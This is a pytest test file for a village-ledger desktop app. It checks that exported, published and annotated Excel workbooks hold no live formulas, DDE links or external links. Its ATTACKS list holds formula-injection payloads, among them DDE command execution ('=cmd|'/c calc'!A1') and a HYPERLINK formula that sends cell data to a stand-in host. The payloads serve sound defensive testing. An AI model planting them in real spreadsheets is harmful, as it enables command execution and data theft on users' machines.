"""What somebody types is never a formula in a file that the program writes, nor where a table is pasted."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from desktop.data.ledger import Ledger
from desktop.domain.fields import FieldKind
from desktop.domain.kinds import KINDS
from desktop.exchange.report_sheet import ReportRow, ReportSheet, write_report
from desktop.services.annotating import annotate_copy
from desktop.services.exporting import export_workbook
from desktop.services.importing import import_workbooks
from desktop.services.ledgers import begin_ledger
from desktop.services.publishing import publish_workbook
from desktop.services.recording import check_values, record
from desktop.services.settings import change_setting
from desktop.services.taking import annotated, examine
from desktop.services.templates import add_template, fill_template
from desktop.ui.picked_table import plain_cell
from desktop.wording import problem_sentence
from tests.forms_of_offices import household_form
from tests.office_suite import save_again
from tests.offices import EAST, TOWN, TOWN_NAME, issue, visit
from tests.sheet_edits import VISITS, type_into

ATTACKS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://x.example/?"&A1,"点这里")',
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    ";=1+1",
    '"=1+1',
    "<f>1+1</f>",
    "</t></is><f>1+1</f><is><t>",
    "_x003D_1+1",
    "{=1+1}",
)
SIGNS = tuple("=+-@＝＋－＠")
FORMULA = re.compile(rb"<(?:\w+:)?f[ >/](?:[^<]*)")
TEXTS = (FieldKind.TEXT, FieldKind.LONG_TEXT, FieldKind.LIST)
BASES: dict[str, dict[str, Any]] = {
    "visit": visit(issues=[issue()]),
    "issue": issue(),
    "household": {"household_no": "1", "head_name": "郑大山"},
    "person": {"name": "郑大山", "relation": "head", "household_no": "1"},
    "enterprise": {"name": "水泵厂"},
    "cadre": {"name": "钱小河"},
}


def attacked(ledger: Ledger, kind_name: str, attack: str) -> dict[str, Any]:
    """A record with the attack in every text that takes it."""
    kind, base = KINDS[kind_name], BASES[kind_name]
    values = dict(base)
    for field in kind.fields:
        value = [attack] if field.kind is FieldKind.LIST else attack
        problems = check_values(ledger, kind, {field.name: value})[1]
        if field.kind in TEXTS and all(one.field != field.name for one in problems):
            values[field.name] = value
    return values


@pytest.fixture
def village(tmp_path: Path) -> Iterator[Ledger]:
    """A village whose name, people and records are attacks."""
    ledger = begin_ledger(
        tmp_path / "village.db", level="village", code=EAST, name="=1+1村", town_name=TOWN_NAME, actor="=cmd()"
    )
    change_setting(ledger, "categories", ["其他", "=1+1", "@SUM(1)"])
    for kind in BASES:
        for attack in ATTACKS:
            record(ledger, kind, [attacked(ledger, kind, attack)])
    yield ledger
    ledger.close()


def formulas(path: Path) -> list[bytes]:
    """The formulas of all cells of a workbook."""
    with zipfile.ZipFile(path) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
        return [found for name in sheets for found in FORMULA.findall(package.read(name))]


def safe(path: Path) -> set[str]:
    assert formulas(path) == []
    with zipfile.ZipFile(path) as package:
        parts = b"".join(package.read(name) for name in package.namelist() if name.endswith(".xml"))
    # Lists to choose from refer to cells, and nothing is linked or fetched.
    for rule in re.findall(rb"<formula1>([^<]*)</formula1>", parts):
        assert re.fullmatch(rb"[^!&|]*!\$[A-Z]+\$\d+:\$[A-Z]+\$\d+|[\w&;,.()$<>=\"' +\-*/:]*", rule), rule
    assert b"externalLink" not in parts and b"ddeLink" not in parts and b"<hyperlink " not in parts
    # openpyxl takes every text with "=" in front for a formula; what the file itself says is looked at above.
    return {
        cell.value
        for sheet in load_workbook(path)
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.lstrip().startswith(SIGNS)
    }


def test_workbooks_for_the_town(village: Ledger, tmp_path: Path) -> None:
    path = tmp_path / "上报.xlsx"
    export_workbook(village, path, to=TOWN)
    assert {"=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'/c calc'!A1", "＝1+1"} <= safe(path)


def test_lists_for_posting(village: Ledger, tmp_path: Path) -> None:
    publish_workbook(village, tmp_path / "公示.xlsx")
    assert safe(tmp_path / "公示.xlsx")


def test_reports(tmp_path: Path) -> None:
    rows = [ReportRow(attack, 0, (1,)) for attack in ATTACKS] + [ReportRow(ATTACKS[0])]
    report = ReportSheet("月报", ATTACKS[0], ATTACKS[1], "项目", ("=1+1",), rows, list(ATTACKS))
    write_report(tmp_path / "月报.xlsx", report)
    assert safe(tmp_path / "月报.xlsx")


def test_marked_copies(village: Ledger, tmp_path: Path) -> None:
    sent, typed = tmp_path / "sent.xlsx", tmp_path / "typed.xlsx"
    record(village, "visit", [visit(subject_name="周江海")])
    export_workbook(village, sent, to=TOWN)
    type_into(sent, VISITS, "周江海", typed, 走访日期="＝2024-99-99", 走访方式="@SUM(1)")
    town = begin_ledger(tmp_path / "town.db", level="town", code=TOWN, name=TOWN_NAME, actor="吴镇")
    outcome = import_workbooks(town, [typed])[0]
    town.close()
    assert outcome.rejected
    annotate_copy(typed, tmp_path / "marked.xlsx", outcome, problem_sentence)
    assert formulas(tmp_path / "marked.xlsx") == formulas(typed)


def test_marked_ledgers_of_clerks(village: Ledger, tmp_path: Path) -> None:
    from openpyxl import Workbook

    book, path = Workbook(), tmp_path / "台账.xlsx"
    book.active.append(["走访日期", "走访对象", "走访人", "走访方式", "处理情况"])
    book.active.append(["不知道", "郑大山", "钱小河", "＝1+1", "@SUM(1)"])
    book.active.append(["2024-03-05", "周江", "钱小河", "入户", "无问题"])
    book.save(path)
    annotated(examine(village, path, "visit"), tmp_path / "marked.xlsx", problem_sentence)
    assert formulas(tmp_path / "marked.xlsx") == []


def test_forms_of_offices(village: Ledger, tmp_path: Path) -> None:
    form = household_form(tmp_path / "form.xlsx")
    one = add_template(village, form, "household")
    fill_template(village, one.id, tmp_path / "filled.xlsx", with_personal=True, today=date(2024, 3, 5))
    own = {re.sub(rb"\d+", b"#", found) for found in formulas(form)}
    assert own
    assert {re.sub(rb"\d+", b"#", found) for found in formulas(tmp_path / "filled.xlsx")} == own


@pytest.mark.parametrize("attack", ATTACKS)
def test_pasted_cells(attack: str) -> None:
    pasted = plain_cell(attack)
    assert not set(pasted) & {"\t", "\r", "\n"}
    assert not pasted.lstrip().startswith(SIGNS)


@pytest.mark.office
def test_after_another_suite_has_saved_it(village: Ledger, tmp_path: Path) -> None:
    for name, write in (("sent", lambda path: export_workbook(village, path, to=TOWN)), ("public", None)):
        path, again = tmp_path / f"{name}.xlsx", tmp_path / f"{name}-again.xlsx"
        if write is None:
            publish_workbook(village, path)
        else:
            write(path)
        before = safe(path)
        save_again(path, again)
        assert formulas(again) == []
        assert {text for text in before if "\r" not in text} <= safe(again)
